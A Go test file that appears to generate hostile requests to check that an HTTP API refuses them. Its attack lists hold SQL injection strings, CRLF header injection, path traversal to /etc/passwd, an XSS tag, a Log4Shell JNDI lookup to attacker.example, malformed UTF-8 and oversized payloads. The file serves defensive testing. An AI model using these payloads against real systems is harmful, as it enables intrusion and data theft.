package hardening

import (
	"bytes"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strconv"
	"strings"
)

// attack is one bad request derived from an operation's valid base
// request by changing exactly one thing.
type attack struct {
	name string
	req  request
	// emptyPageOK: a read whose free-text filter got attack text may
	// answer 200 with an empty page (the text is data, and must match
	// nothing) instead of a 4xx.
	emptyPageOK bool
	// unknownOK is the success status of a route that answers any value
	// of the field it looks up as an unknown one, by contract (see
	// opaqueLookups); still nothing may be stored.
	unknownOK int
}

// opaqueLookups are the fields that routes look up without revealing
// whether anything matched: logout answers 204 for any refresh token
// (RFC 7009: an invalid token is not an error), and a password reset 202
// whether or not the account exists (docs/api.md). Attack text there is just
// a value that matches nothing; NUL and invalid UTF-8 are still refused.
var opaqueLookups = map[string]int{
	"POST /v1/auth/logout refreshToken":  204,
	"POST /v1/auth/password-reset email": 202,
}

// injections are attack strings for parameters that accept only some
// values (ids, enums, emails, tokens, cursors, ETags, numbers).
var injections = []string{
	`' OR '1'='1`,
	`1; DROP TABLE activities.activities; --`,
	`" OR ""="`,
	`admin'--`,
	`1 UNION SELECT password_hash FROM identity.users`,
	`%27%20OR%201%3D1`,
	"a\r\nSet-Cookie: session=attacker",
	"a%0d%0aX-Injected:%201",
	`../../../../etc/passwd`,
	`<script>alert(1)</script>`,
	`${jndi:ldap://attacker.example/a}`,
}

// hostileStrings are JSON string literals (raw bytes) that no field may
// accept: invalid UTF-8, NUL and other control characters, a response
// header smuggled in a value.
var hostileStrings = map[string]string{
	"invalid UTF-8":          "\"a\xff\xfeb\"",
	"lone continuation byte": "\"\x80\"",
	"overlong encoding":      "\"\xc0\xaf\"",
	"NUL byte":               `"a\u0000b"`,
	"lone high surrogate":    `"a\ud800b"`,
	"lone low surrogate":     `"\udc00"`,
	"unpaired high":          `"\ud83d\u0041"`,
	"escape sequence":        `"\u001b[2J\u001b[31mred"`,
	"CRLF header injection":  `"a\r\nX-Injected: 1"`,
	"bell and backspace":     `"\u0007\u0008"`,
}

// storable marks the hostile strings no field can store at all (Postgres
// text holds neither NUL nor invalid UTF-8); the others are refused only
// where the field's rules say so (title: no control characters).
var storable = map[string]bool{
	"invalid UTF-8": true, "lone continuation byte": true, "overlong encoding": true, "NUL byte": true,
	// A lone surrogate escape is not Unicode text: it would be stored as
	// U+FFFD, which the client never sent.
	"lone high surrogate": true, "lone low surrogate": true, "unpaired high": true,
}

// wrongTypes are JSON values of a type no string or array field takes.
var wrongTypes = map[string]string{
	"number":      `12345`,
	"huge number": `1e400`,
	"boolean":     `true`,
	"object":      `{"$ne": null}`,
}

// freeText are the fields whose content is the user's own text: attack
// strings are legitimate data there (stored verbatim, never executed),
// which TestInjectedTextIsData checks instead.
var freeText = map[string]bool{"title": true, "description": true, "displayName": true, "password": true, "newPassword": true, "reason": true, "filename": true}

// noControl are the free-text fields whose rules refuse control
// characters (docs/api.md): every hostile string is an attack there.
var noControl = map[string]bool{"title": true, "reason": true, "filename": true}

// unknownFields must each be rejected as a field the operation does not
// define (mass assignment).
var unknownFields = []string{"id", "version", "ownerId", "createdBy", "updatedAt", "roles", "emailVerified", "active", "passwordHash", "__proto__"}

const placeholder = "__HOSTILE_VALUE__"

// bodyWith marshals base with field set to raw, a JSON text sent byte
// for byte (it may be invalid JSON or invalid UTF-8 on purpose).
func bodyWith(base map[string]any, field string, raw string) []byte {
	m := make(map[string]any, len(base)+1)
	for k, v := range base {
		m[k] = v
	}
	m[field] = placeholder
	b, _ := json.Marshal(m)
	return bytes.Replace(b, []byte(`"`+placeholder+`"`), []byte(raw), 1)
}

// nested is a JSON value nested depth arrays deep.
func nested(depth int) string {
	return strings.Repeat("[", depth) + strings.Repeat("]", depth)
}

// bigArray is a JSON array of n copies of item.
func bigArray(n int, item string) string {
	return "[" + strings.TrimSuffix(strings.Repeat(item+",", n), ",") + "]"
}

// attacksOn derives every attack on op from its base request.
func attacksOn(op operation, base request, baseBody map[string]any) []attack {
	var out []attack
	add := func(name string, mutate func(a *attack)) {
		a := attack{name: name, req: base}
		a.req.header = map[string]string{}
		for k, v := range base.header {
			a.req.header[k] = v
		}
		mutate(&a)
		out = append(out, a)
	}
	for _, p := range op.params {
		paramAttacks(p, add)
	}
	// A query parameter the operation does not define (a misspelt filter
	// must not return the unfiltered list): 422 naming it.
	add("unknown query parameter", func(a *attack) {
		sep := "?"
		if strings.Contains(a.req.path, "?") {
			sep = "&"
		}
		a.req.path += sep + "entity_type=activity"
	})
	if op.body != nil {
		bodyAttacks(op, baseBody, add)
	}
	return out
}

type adder func(name string, mutate func(a *attack))

func paramAttacks(p param, add adder) {
	switch p.in {
	case "path":
		values := append([]string{"\x00", "\xff", strings.Repeat("9", 10000), "..%2F..%2Fadmin", "00000000-0000-0000-0000-00000000000g"}, injections...)
		for i, v := range values {
			add(fmt.Sprintf("path %s #%d", p.name, i), func(a *attack) {
				a.req.path = strings.Replace(a.req.path, "/"+placeholderPath, "/"+url.PathEscape(v), 1)
			})
		}
	case "query":
		values := append([]string{"\x00", "\xff\xfe", strings.Repeat("z", 10000)}, injections...)
		if p.schema.is("integer") {
			values = append(values, "abc", "1e400", "-1", "0", "101", "1.5", "99999999999999999999")
		}
		free := p.schema.is("string") && len(p.schema.Enum) == 0 && p.schema.Format == "" && p.name != "cursor"
		for i, v := range values {
			add(fmt.Sprintf("query %s #%d", p.name, i), func(a *attack) {
				sep := "?"
				if strings.Contains(a.req.path, "?") {
					sep = "&"
				}
				a.req.path += sep + url.Values{p.name: {v}}.Encode()
				a.emptyPageOK = free && len(v) <= 200
			})
		}
	case "header":
		var values []string
		switch strings.ToLower(p.name) {
		case "idempotency-key":
			values = []string{"", " ", `""`, strings.Repeat("k", 256)}
		case "if-match":
			// The fixture's resources are at version 1: a weak tag of it
			// never matches (RFC 9110 strong comparison), nor a list
			// without it, nor what is not a list of entity tags.
			values = append([]string{"", "*", `"0"`, `"-1"`, `"999999"`, `"998", "999"`, `W/"1"`, `W/"1", "2"`, `1`, `"01"`, `"1" "1"`, `"1", *`}, injections...)
		default:
			return // e.g. If-None-Match: garbage simply does not match
		}
		for i, v := range values {
			if strings.ContainsAny(v, "\r\n") {
				continue // not sendable in a header; see TestRawProtocolAttacks
			}
			add(fmt.Sprintf("header %s #%d", p.name, i), func(a *attack) { a.req.header[p.name] = v })
		}
	}
}

// placeholderPath marks the path parameter's place in a base path.
const placeholderPath = "{id}"

func bodyAttacks(op operation, base map[string]any, add adder) {
	raw := func(name string, body []byte) {
		add("body "+name, func(a *attack) { a.req.body = body })
	}
	opaque := func(name string, body []byte, status int) {
		add("body "+name, func(a *attack) { a.req.body, a.unknownOK = body, status })
	}
	baseJSON, _ := json.Marshal(base)
	raw("empty", []byte{})
	raw("null", []byte("null"))
	raw("array", []byte("[]"))
	raw("string", []byte(`"x"`))
	raw("truncated", baseJSON[:len(baseJSON)-1])
	raw("trailing garbage", append(append([]byte{}, baseJSON...), []byte("garbage")...))
	raw("two values", append(append([]byte{}, baseJSON...), baseJSON...))
	raw("byte order mark", append([]byte("\xef\xbb\xbf"), baseJSON...))
	raw("invalid UTF-8 key", bodyWith(base, "\xff", "1"))
	raw("deeply nested", bodyWith(base, "nested", nested(100000)))
	raw("deeply nested objects", []byte(strings.Repeat(`{"a":`, 50000)+"1"+strings.Repeat("}", 50000)))
	raw("huge top-level array", []byte(bigArray(200000, "{}")))
	raw("over the body limit", bodyWith(base, "padding", `"`+strings.Repeat("x", 2<<20)+`"`))
	for _, f := range unknownFields {
		if _, defined := op.body.Properties[f]; !defined {
			raw("unknown field "+f, bodyWith(base, f, `"0192c4e8-7a1b-7c3d-9e8f-0a1b2c3d4e5f"`))
		}
	}
	add("content type text/plain", func(a *attack) { a.req.contentType = "text/plain" })
	add("content type form", func(a *attack) { a.req.contentType = "application/x-www-form-urlencoded" })
	for field, s := range op.body.Properties {
		set := raw
		if status, ok := opaqueLookups[op.String()+" "+field]; ok {
			set = func(name string, body []byte) {
				if storable[strings.TrimPrefix(name, field+" ")] {
					raw(name, body)
					return
				}
				opaque(name, body, status)
			}
		}
		fieldAttacks(field, s, slices.Contains(op.body.Required, field), base, set)
	}
}

func fieldAttacks(field string, s *schema, required bool, base map[string]any, raw func(string, []byte)) {
	set := func(name, value string) { raw(field+" "+name, bodyWith(base, field, value)) }
	for name, v := range wrongTypes {
		if name == "boolean" && s.is("boolean") || name == "number" && s.is("integer") {
			continue // the field's own type: a valid value, not an attack
		}
		set(name, v)
	}
	set("deeply nested", nested(100000))
	if required && !s.is("null") {
		set("null", "null") // huma reads null as absent for optional fields
	}
	if s.is("array") {
		item := `"member"`
		set("huge array", bigArray(100000, item))
		set("array of numbers", `[1, 2]`)
		set("array of nulls", `[null]`)
		set("nested arrays", `[["member"]]`)
		set("duplicates", `["member", "member"]`)
		for name, v := range hostileStrings {
			set("item "+name, "["+v+"]")
		}
		for i, v := range injections {
			set("item injection #"+strconv.Itoa(i), "["+quote(v)+"]")
		}
		return
	}
	set("array", `["x"]`)
	set("huge array", bigArray(100000, `"x"`))
	for name, v := range hostileStrings {
		if freeText[field] && !storable[name] && !noControl[field] {
			continue // a control character is text like any other there
		}
		set(name, v)
	}
	limit := 100000
	if s.MaxLength != nil {
		limit = *s.MaxLength + 1
	}
	if field == "title" {
		limit = 201 // docs/api.md: 1..200 characters
	}
	set("too long", quote(strings.Repeat("é", limit)))
	if !freeText[field] {
		for i, v := range injections {
			set("injection #"+strconv.Itoa(i), quote(v))
		}
		set("empty", `""`)
	}
}

func quote(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
